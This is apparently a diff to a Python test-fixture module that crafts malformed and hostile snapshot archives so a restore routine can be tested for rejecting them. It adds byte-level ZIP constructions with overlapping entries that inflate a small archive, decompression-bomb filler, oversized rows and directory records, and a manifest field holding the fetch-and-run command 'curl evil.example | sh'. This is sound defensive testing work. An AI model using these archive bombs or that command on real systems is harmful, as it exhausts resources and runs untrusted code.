@@ -8,16 +8,21 @@ the signature are the ones exercised. Usable on its own:
 """
 import hashlib
 import json
+import random
 import stat
+import struct
 import sys
 import warnings
 import zipfile
+import zlib
 from dataclasses import dataclass
 from pathlib import Path
 
 import zstandard
 
 from app.snapshot.container import MANIFEST, SIGNATURE, sign
+from app.snapshot.operations import DEFAULT_MAX_MEMBERS
+from bench.hostile_zip import write_many_entries
 
 
 @dataclass
@@ -210,6 +215,54 @@ def corrupt_table_stream(m, mf):
     listed(mf, member)
 
 
+def overlong_component(m, mf): add_file("files/" + "a" * 300 + ".txt")(m, mf)
+
+
+def _table_with_long_line(m, mf, table, line):
+    """A table's data with one more line appended; the row count follows when the line ends."""
+    _, _, raw = table_data(m, mf, table)
+    entry = next(t for t in mf["tables"] if t["name"] == table)
+    set_table_data(m, mf, table, raw + line, rows=entry["rows"] + line.count(b"\n"))
+
+
+def _filler(size, separator=b"x", seed=7):
+    """Text without line breaks that zstd shrinks ~85x: under the 200x expansion cap, as a real attack would keep
+    it (one 200 MiB row from a 1.1 MB archive). With separator=b"\t" no value in it is over 1 KiB."""
+    rng = random.Random(seed)
+    return b"".join(rng.randbytes(4).hex().encode() + b"x" * 1015 + separator for _ in range(size // 1024))
+
+
+def overlong_row(m, mf):
+    """One row of 65 MiB with no line break (over the 64 MiB default), from a ~0.8 MB member."""
+    _table_with_long_line(m, mf, "settings", _filler(65 * 1024 * 1024, b"\t"))
+
+
+def overlong_value(m, mf):
+    """A well-formed row whose one value is 33 MiB (over the 32 MiB default for a value)."""
+    _table_with_long_line(m, mf, "settings", b"big\t" + _filler(33 * 1024 * 1024) + b"\tf\n")
+
+
+def created_at_missing(m, mf): del mf["created_at"]
+def created_at_malformed(m, mf): mf["created_at"] = "last tuesday"
+def created_at_impossible(m, mf): mf["created_at"] = "2026-13-45T25:61:61Z"
+def files_not_an_object(m, mf): mf["files"] = []
+def unknown_manifest_field(m, mf): mf["run_after_restore"] = "curl evil.example | sh"
+def member_size_negative(m, mf): mf["members"][_first_file(m).name]["size"] = -1
+
+
+def member_sha_malformed(m, mf):
+    mf["members"][_first_file(m).name]["sha256"] = "not-a-sha"
+
+
+def table_rows_not_a_number(m, mf):
+    mf["tables"][0]["rows"] = "many"
+
+
+def table_data_shared(m, mf):
+    """Two tables read the same data member."""
+    mf["tables"][1]["member"] = mf["tables"][0]["member"]
+
+
 MUTATIONS = {f.__name__: f for f in [
     absolute_path, dot_dot, backslash, drive_letter, control_character, symlink, symlink_outside,
     hard_link_like_device, fifo, directory_entry, unlisted_member, member_outside_known_prefixes, duplicate_name,
@@ -217,6 +270,9 @@ MUTATIONS = {f.__name__: f for f in [
     format_version_newer, schema_revision_newer, not_our_format, unknown_kind, unknown_table, platform_table,
     column_not_in_schema, table_missing, decompression_bomb_declared, decompression_bomb_hidden, row_count_lies,
     row_breaks_primary_key, row_breaks_foreign_key, row_wrong_type, row_with_too_many_fields, corrupt_table_stream,
+    overlong_component, overlong_row, overlong_value, created_at_missing, created_at_malformed, created_at_impossible,
+    files_not_an_object, unknown_manifest_field, member_size_negative, member_sha_malformed, table_rows_not_a_number,
+    table_data_shared,
 ]}
 
 
@@ -280,8 +336,95 @@ def nul_in_name(valid, out, key):
     return out
 
 
+def non_ascii_signature(valid, out, key):
+    """A signature file holding a non-ASCII byte (hmac.compare_digest raises on such a str)."""
+    members, manifest = read(valid)
+    return write(out, members, manifest, key, signature="\u00e9" * 64)
+
+
+# --- cases laid out byte by byte: the ZIP structure itself lies ----------------------------------------------------
+
+@dataclass
+class Record:
+    """A central-directory record as written: name, where its local header is, sizes, CRC, mode."""
+    name: bytes
+    offset: int
+    size: int
+    crc: int
+    mode: int = stat.S_IFREG | 0o600
+
+
+def local_header(name, data):
+    return struct.pack("<4s2B4HL2L2H", b"PK\x03\x04", 20, 0, 0x800, 0, 0, 0x21, zlib.crc32(data), len(data), len(data),
+                       len(name), 0) + name
+
+
+def write_raw(path, members, manifest, key, tweak=None):
+    """Members, manifest and signature laid out one after another; ``tweak(records)`` may then change the
+    central directory (sizes, offsets, extra records) before it is written."""
+    data = json.dumps(manifest, indent=1, sort_keys=True).encode()
+    blob, records = bytearray(), []
+    for m in members + [Member(MANIFEST, data), Member(SIGNATURE, sign(data, key).encode())]:
+        name = m.name.encode()
+        records.append(Record(name, len(blob), len(m.data), zlib.crc32(m.data), m.mode))
+        blob += local_header(name, m.data) + m.data
+    if tweak:
+        tweak(records)
+    directory = b"".join(
+        struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, 0x800, 0, 0, 0x21, r.crc, r.size, r.size,
+                    len(r.name), 0, 0, 0, 0, r.mode << 16, r.offset) + r.name for r in records)
+    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(records), len(records), len(directory), len(blob), 0)
+    Path(path).write_bytes(bytes(blob) + directory + end)
+    return path
+
+
+def overlapping_entries(valid, out, key):
+    """Two listed, correctly checksummed files whose data is shared: A's data is B's local header and data.
+    A chain of such entries makes a ~1 MB archive restore hundreds of MB (Python 3.11.7's zipfile allows it)."""
+    members, manifest = read(valid)
+    a, b = [m for m in members if m.name.startswith("files/")][:2]
+    members.remove(b)
+    a.data = local_header(b.name.encode(), b.data) + b.data
+    listed(manifest, a)  # b stays listed, with its own size and checksum
+
+    def tweak(records):
+        at = next(i for i, r in enumerate(records) if r.name == a.name.encode())
+        inside = records[at].offset + 30 + len(records[at].name)
+        records.insert(at + 1, Record(b.name.encode(), inside, len(b.data), zlib.crc32(b.data), b.mode))
+    return write_raw(out, members, manifest, key, tweak)
+
+
+def member_past_directory(valid, out, key):
+    """A member whose declared size runs past the member data into the central directory."""
+    members, manifest = read(valid)
+    target = _first_file(members)
+    grown = len(target.data) + 10_000_000
+    manifest["members"][target.name]["size"] = grown
+
+    def tweak(records):
+        next(r for r in records if r.name == target.name.encode()).size = grown
+    return write_raw(out, members, manifest, key, tweak)
+
+
+def entry_count_over_limit(valid, out, key):
+    """One entry more than the default cap, counted by the end record: refused before anything is parsed."""
+    return write_many_entries(out, DEFAULT_MAX_MEMBERS + 1)
+
+
+def many_entries_unsigned(valid, out, key):
+    """200,000 central-directory records and no manifest: refused without parsing them (was ~4 s, ~120 MB)."""
+    return write_many_entries(out, 200_000)
+
+
+def directory_size_over_limit(valid, out, key):
+    """An end record claiming a 4 GB central directory for a handful of entries, in a 22-byte file."""
+    Path(out).write_bytes(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 5, 5, 0xFFFFFFF0, 0, 0))
+    return out
+
+
 RAW = {f.__name__: f for f in [truncated, truncated_tail, flipped_byte, not_a_zip, tampered_manifest, other_key,
-                                nul_in_name]}
+                                nul_in_name, non_ascii_signature, overlapping_entries, member_past_directory,
+                                entry_count_over_limit, many_entries_unsigned, directory_size_over_limit]}
 
 
 def build(case, valid, out, key):
